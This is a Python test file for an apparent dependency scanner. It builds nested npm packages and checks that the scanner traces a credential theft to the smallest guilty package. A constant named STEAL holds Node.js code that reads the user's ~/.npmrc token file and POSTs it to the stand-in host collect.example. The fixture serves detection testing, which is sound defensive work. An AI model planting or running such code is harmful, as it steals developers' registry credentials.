"""What shows when a package is loaded with all it depends on is traced to the smallest that shows it."""

from __future__ import annotations

import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.support import requires
from tests.support.hunter import npm_project, scan_json

STEAL = """
const text = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");
require("http").request({ host: "collect.example", method: "POST", agent: false }, (r) => r.resume()).end(text);
"""


@pytest.fixture(scope="module", autouse=True)
def _host() -> None:
    requires.needs_runc()
    requires.needs_btf()


def _package(folder: Path, code: str, **more: Any) -> None:
    folder.mkdir(parents=True)
    (folder / "package.json").write_text(json.dumps({"name": folder.name, "version": "1.0.0", **more}))
    (folder / "index.js").write_text(code)


def _bundle(project: Path, culprit: str) -> Path:
    """A project that depends on `top`, which holds `left` and `mid`, and `mid` holds `deep`."""
    top = project / "src/top"
    code = dict.fromkeys(("top", "left", "mid", "deep"), "module.exports = 1;\n") | {culprit: STEAL}
    inner = {"left": "1.0.0", "mid": "1.0.0"}
    _package(
        top,
        'require("left"); require("mid");\n' + code["top"],
        dependencies=inner,
        bundleDependencies=list(inner),
    )
    _package(top / "node_modules/left", code["left"])
    _package(top / "node_modules/mid", 'require("deep");\n' + code["mid"], dependencies={"deep": "1.0.0"})
    _package(top / "node_modules/mid/node_modules/deep", code["deep"])
    npm_project(project / "p", "app", dependencies={"top": "file:top.tgz"})
    with tarfile.open(project / "p/top.tgz", "w:gz") as tar:
        tar.add(top, "package")
    return project / "p"


@pytest.mark.parametrize(("culprit", "chain"), [("deep", ["top", "mid", "deep"]), ("top", ["top"])])
def test_smallest_that_shows_it_is_certain(tmp_path: Path, culprit: str, chain: list[str]) -> None:
    report = scan_json(_bundle(tmp_path, culprit), codes=(1,))
    theft = next(f for f in report["findings"] if f["kind"] == "exfiltration")
    assert theft["blame"]["package"] == f"pkg:npm/{culprit}@1.0.0"
    assert theft["blame"]["confidence"] == "certain", theft["blame"]
    assert theft["blame"]["path"] == ["app", *chain]
    sent = [r for r in report["network"]["requests"] if "collect.example" in r["url"]]
    assert [r["blame"]["package"] for r in sent] == [f"pkg:npm/{culprit}@1.0.0"]
    assert "narrow" in [p["name"] for p in report["coverage"]["phases"]]
